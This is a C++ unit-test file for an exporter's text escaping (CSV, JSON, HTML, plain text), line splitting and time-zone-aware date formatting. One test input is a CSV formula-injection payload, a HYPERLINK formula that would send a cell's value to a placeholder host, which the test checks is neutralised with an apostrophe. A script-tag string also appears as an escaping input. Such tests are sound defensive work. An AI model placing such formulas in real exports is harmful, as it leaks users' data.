// How values are written: escaping per format, lines, dates and offsets.
#include "ExportText.h"

#include "TestPlatform.h"
#include "TextDecode.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <ctime>
#include <string>
#include <vector>

TEST(ExportText, EscapesForEachFormat) {
    struct Case {
        std::string text;
        std::string csv, json, html, plain;
    };
    const Case cases[] = {
        {"plain", "plain", "\"plain\"", "plain", "plain"},
        {"a,b", "\"a,b\"", "\"a,b\"", "a,b", "a,b"},
        {"\",\"", "\"\"\",\"\"\"", "\"\\\",\\\"\"", "&quot;,&quot;", "\",\""},
        {"</div><script>x</script>", "</div><script>x</script>", "\"</div><script>x</script>\"",
         "&lt;/div&gt;&lt;script&gt;x&lt;/script&gt;", "</div><script>x</script>"},
        {"l1\r\nl2", "\"l1\r\nl2\"", "\"l1\\r\\nl2\"", "l1\r\nl2",
         "l1" + std::string(kReplacementUtf8) + std::string(kReplacementUtf8) + "l2"},
        {"\x1b[31m\t\\", "\x1b[31m\t\\", "\"\\u001b[31m\\t\\\\\"", "\x1b[31m\t\\",
         std::string(kReplacementUtf8) + "[31m\t\\"},
        {"'&'", "'&'", "\"'&'\"", "&#39;&amp;&#39;", "'&'"},
        {"", "", "\"\"", "", ""},
    };
    for (const Case& c : cases) {
        std::string csv, json, html, plain;
        exporter::AppendCsvField(csv, c.text);
        exporter::AppendJsonString(json, c.text);
        exporter::AppendHtmlText(html, c.text);
        exporter::AppendPlainText(plain, c.text);
        EXPECT_EQ(csv, c.csv) << c.text;
        EXPECT_EQ(json, c.json) << c.text;
        EXPECT_EQ(html, c.html) << c.text;
        EXPECT_EQ(plain, c.plain) << c.text;
    }
}

TEST(ExportText, CsvTextThatAFormulaWouldStartGetsAnApostrophe) {
    struct Case {
        std::string text;
        std::string guarded; // what --csv-raw leaves out is the apostrophe
    };
    const Case cases[] = {
        {"=HYPERLINK(\"http://x?d=\"&G3,\"open\")",
         "\"'=HYPERLINK(\"\"http://x?d=\"\"&G3,\"\"open\"\")\""},
        {"+1", "'+1"},
        {"-2 degrees", "'-2 degrees"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"\rx", "\"'\rx\""},
        {"a=b", "a=b"},
        {" =1", " =1"},
        {"'=1", "'=1"},
        {"\n=1", "\"\n=1\""},
        {"\xe4\xbd\xa0=", "\xe4\xbd\xa0="},
        {"", ""},
    };
    for (const Case& c : cases) {
        std::string guarded, raw, exact;
        exporter::AppendCsvTextField(guarded, c.text, false);
        exporter::AppendCsvTextField(raw, c.text, true);
        exporter::AppendCsvField(exact, c.text);
        EXPECT_EQ(guarded, c.guarded) << c.text;
        EXPECT_EQ(raw, exact) << c.text;
    }
}

TEST(ExportText, SplitsLinesAtEveryBreak) {
    const std::pair<std::string, std::vector<std::string>> cases[] = {
        {"", {""}},
        {"one", {"one"}},
        {"a\r\nb", {"a", "b"}},
        {"a\rb\nc", {"a", "b", "c"}},
        {"a\n\nb", {"a", "", "b"}},
        {"a\n", {"a", ""}},
        {"a\n\r", {"a", "", ""}},
    };
    for (const auto& [text, lines] : cases) {
        std::vector<std::string> got;
        exporter::ForEachLine(text, [&](std::string_view line) { got.emplace_back(line); });
        EXPECT_EQ(got, lines) << text;
    }
}

TEST(ExportText, DatesAndOffsets) {
    struct Case {
        CivilTime civil;
        std::int64_t unixTime;
        const char* iso;
    };
    const Case cases[] = {
        {{1970, 1, 1, 0, 0, 0}, 0, "1970-01-01T00:00:00+00:00"},
        {{2026, 1, 1, 8, 0, 5}, 1767225605, "2026-01-01T08:00:05+08:00"},
        {{2025, 12, 31, 19, 0, 5}, 1767225605, "2025-12-31T19:00:05-05:00"},
        {{2026, 1, 1, 5, 30, 5}, 1767225605, "2026-01-01T05:30:05+05:30"},
        {{2026, 1, 1, 12, 45, 5}, 1767225605, "2026-01-01T12:45:05+12:45"},
        {{2026, 1, 1, 0, 0, 5}, 1767225605, "2026-01-01T00:00:05+00:00"},
        {{2024, 2, 29, 23, 59, 59}, 1709251199, "2024-02-29T23:59:59+00:00"},
        {{1969, 12, 31, 23, 59, 59}, -1, "1969-12-31T23:59:59+00:00"},
        {{2038, 1, 19, 3, 14, 7}, 2147483647, "2038-01-19T03:14:07+00:00"},
    };
    for (const Case& c : cases) {
        ExportTime out;
        exporter::FormatCivilTime(c.civil, c.unixTime, out);
        EXPECT_TRUE(out.valid);
        EXPECT_EQ(out.iso, c.iso);
        EXPECT_EQ(out.date + "T" + out.time, std::string(c.iso).substr(0, 19));
    }
    // The system's UTC conversion agrees with the same arithmetic.
    for (std::int32_t t : {0, 951782400, 1767225605, 2147483647}) {
        ExportTime out;
        exporter::FormatExportTime(t, true, out);
        ASSERT_TRUE(out.valid) << t;
        int y = std::stoi(out.date.substr(0, 4)), m = std::stoi(out.date.substr(5, 2)),
            d = std::stoi(out.date.substr(8, 2));
        int h = std::stoi(out.time.substr(0, 2)), mi = std::stoi(out.time.substr(3, 2)),
            s = std::stoi(out.time.substr(6, 2));
        EXPECT_EQ(exporter::DaysFromCivil(y, m, d) * 86400 + h * 3600 + mi * 60 + s, t);
        EXPECT_EQ(out.iso.substr(19), "+00:00");
    }
}

TEST(ExportText, StreamFormatterAgreesWithTheSystemAcrossOffsetChanges) {
    struct Sweep {
        const char* zone; // TZ value (host only)
        std::int64_t from;
    };
    // Around DST changes (a whole hour, Lord Howe's half hour), a zone on a
    // quarter hour, the epoch and the first years of 32-bit time.
    const Sweep sweeps[] = {
        {"America/New_York", 1772949600},
        {"Europe/Berlin", 1774746000},
        {"Australia/Lord_Howe", 1775313000},
        {"Asia/Kathmandu", 1767225600},
        {"UTC", -86400},
        {"Asia/Kathmandu", 1769817600}, // into February, local and UTC
        {"America/New_York", -2147483648ll},
    };
    for (const Sweep& sweep : sweeps) {
        UseTimeZone(sweep.zone);
        for (bool utc : {false, true}) {
            CExportTimeFormatter formatter(utc), months(utc);
            ExportTime streamed, direct;
            // Forward, with steps that are no divisor of a quarter hour, then
            // a jump back as out-of-order records make.
            for (std::int64_t t = sweep.from; t < sweep.from + 2 * 86400; t += 433) {
                for (std::int64_t probe : {t, t - 5000}) {
                    if (probe < -2147483648ll || probe > 2147483647)
                        continue;
                    auto t32 = static_cast<std::int32_t>(probe);
                    formatter.Format(t32, streamed);
                    exporter::FormatExportTime(t32, utc, direct);
                    ASSERT_EQ(streamed.valid, direct.valid) << sweep.zone << " " << probe;
                    ASSERT_EQ(streamed.iso, direct.iso) << sweep.zone << " " << probe;
                    char month[7];
                    ASSERT_EQ(months.Month(t32, month), direct.valid) << sweep.zone << " " << probe;
                    if (direct.valid) {
                        ASSERT_EQ(std::string(month, 7), direct.date.substr(0, 7))
                            << sweep.zone << " " << probe;
                    }
                }
            }
        }
    }
    UseSystemTimeZone();
}
